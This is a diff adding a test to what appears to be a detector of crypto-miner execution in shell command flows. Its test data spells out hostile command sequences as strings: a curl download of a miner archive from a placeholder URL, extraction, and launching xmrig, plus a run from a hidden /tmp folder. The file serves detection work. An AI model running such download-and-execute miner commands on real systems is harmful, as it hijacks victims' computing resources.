@@ -953,3 +953,11 @@ def test_program_run_from_a_benign_archive_or_another_folder() -> None:
     assert f.events == ()
     _, f = flow(f"curl -sL -o /tmp/p.tgz {MINER_URL}", "tar -czf /tmp/backup.tgz /tmp/.p", "/tmp/.p/run")
     assert f.events == ()
+
+
+def test_archive_extracted_here_identifies_only_programs_in_its_subfolders() -> None:
+    steps = [f"curl -sL -o m.tgz {MINER_URL}", "tar xzf m.tgz"]
+    _, f = flow(*steps, "./xmrig-6.21.0/kw --threads 4")
+    assert "xmrig" in names(f)
+    _, f = flow(*steps, "./manage.py runserver")
+    assert f.events == ()
